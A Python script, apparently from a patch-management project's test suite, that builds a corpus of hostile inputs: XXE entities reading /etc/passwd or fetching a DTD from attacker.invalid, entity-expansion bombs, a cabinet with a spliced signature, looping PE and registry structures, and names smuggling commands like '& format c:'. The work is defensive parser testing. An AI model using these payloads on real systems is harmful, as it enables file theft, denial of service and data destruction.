"""Build the attack corpus in tests/data/attacks from the project's own fixtures.

xml/   external entities, billion laughs, quadratic blowup, deep nesting
cab/   a valid signature spliced onto another cabinet's content; member names that
       escape (.., absolute, drive, UNC, device names) and a decompression bomb
names.json  machine and file names with & | < > ^ % " and line breaks
pe/    resource directories that loop or point outside the file
hive/  subkey lists that form a cycle or point outside the hive
Usage: python make_attacks.py
"""

from __future__ import annotations

import json
import shutil
import struct
from pathlib import Path

import pefile

HERE = Path(__file__).resolve().parent
OUT = HERE / "attacks"


def xml_attacks(out: Path) -> None:
    out.mkdir(parents=True)
    (out / "xxe-file.xml").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        '<BulletinDatastore DataVersion="1">&x;</BulletinDatastore>\n')
    (out / "xxe-parameter.xml").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>\n'
        '<BulletinDatastore DataVersion="1"/>\n')
    lol = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    (out / "billion-laughs.xml").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE d [' + "".join(lol) + ']>\n<BulletinDatastore DataVersion="&l9;"/>\n')
    (out / "quadratic-blowup.xml").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "' + "A" * 50_000 + '">]>\n'
        '<BulletinDatastore DataVersion="1" Title="' + "&a;" * 5_000 + '"/>\n')
    depth = 200_000
    (out / "deep-nesting.xml").write_text(
        '<?xml version="1.0"?>\n<BulletinDatastore DataVersion="1"><Bulletins>' + "<x>" * depth + "</x>" * depth
        + "</Bulletins></BulletinDatastore>\n")


def cab_attacks(out: Path) -> None:
    """month1's signature (valid for month1) spliced onto month2's content."""
    out.mkdir(parents=True)
    incoming = HERE.parent.parent / "tools" / "hfstage" / "data" / "examples" / "incoming"
    donor = (incoming / "month1" / "mssecure.cab").read_bytes()
    victim = (incoming / "month2" / "mssecure.cab").read_bytes()
    d_off, d_len = struct.unpack_from("<II", donor, 44)
    v_off, _ = struct.unpack_from("<II", victim, 44)
    spliced = bytearray(victim[:v_off] + donor[d_off:d_off + d_len])
    struct.pack_into("<I", spliced, 48, d_len)
    (out / "signature-of-another-file.cab").write_bytes(bytes(spliced))
    # hostile member names and the decompression bomb, as make_cabs.sh wrote them
    for cab in sorted((HERE / "cabs").glob("traversal-*.cab")) + [HERE / "cabs" / "bomb.cab"]:
        shutil.copyfile(cab, out / cab.name)


def pe_attacks(out: Path) -> None:
    out.mkdir(parents=True)
    source = HERE / "inventory" / "NT4WKS" / "files" / "WINNT" / "system32" / "rpcss.exe"
    pe = pefile.PE(str(source))
    entry = pe.DIRECTORY_ENTRY_RESOURCE.entries[0]  # RT_VERSION -> its name directory
    field = entry.struct.get_file_offset() + 4  # OffsetToData of the first entry
    data = bytearray(source.read_bytes())
    pe.close()
    struct.pack_into("<I", data, field, 0x80000000)  # a subdirectory that is the root again
    (out / "resource-loop.dll").write_bytes(bytes(data))
    struct.pack_into("<I", data, field, 0x80000000 | 0x7FFFFFF0)  # far outside the file
    (out / "resource-out-of-range.dll").write_bytes(bytes(data))


def _root_and_child(data: bytes) -> tuple[int, int]:
    """File offsets of the root nk record and of its first subkey's nk record."""
    root_cell = 4096 + struct.unpack_from("<I", data, 36)[0]
    sublist = 4096 + struct.unpack_from("<I", data, root_cell + 4 + 28)[0]
    child_cell = 4096 + struct.unpack_from("<I", data, sublist + 4 + 4)[0]
    return root_cell + 4, child_cell + 4


def hive_attacks(out: Path) -> None:
    out.mkdir(parents=True)
    source = (HERE / "inventory" / "NT4WKS" / "SOFTWARE").read_bytes()
    root, child = _root_and_child(source)
    cyclic = bytearray(source)
    # the child's subkey list becomes the root's: the child contains itself
    cyclic[child + 20:child + 32] = source[root + 20:root + 32]
    (out / "cyclic-SOFTWARE").write_bytes(bytes(cyclic))
    outside = bytearray(source)
    struct.pack_into("<I", outside, root + 28, 0x7FFFFFF0)
    (out / "out-of-range-SOFTWARE").write_bytes(bytes(outside))


NAMES = ["PC&DEL", "PC|X", "PC<X", "PC>X", "PC^X", "PC%X%", 'PC"X', "PC\nX", "Q1.exe & format c:", "a%PATH%.exe",
         'x".exe', "patch\r\n.exe"]


def name_attacks(out: Path) -> None:
    """Machine and file names a compromised client could drop on the share (JSON keeps CR and LF)."""
    (out / "names.json").write_text(json.dumps(NAMES, indent=1) + "\n")


def main() -> None:
    shutil.rmtree(OUT, ignore_errors=True)
    xml_attacks(OUT / "xml")
    cab_attacks(OUT / "cab")
    pe_attacks(OUT / "pe")
    hive_attacks(OUT / "hive")
    name_attacks(OUT)
    for path in sorted(OUT.rglob("*")):
        if path.is_file():
            print(f"{path.relative_to(HERE)}: {path.stat().st_size} bytes")


if __name__ == "__main__":
    main()
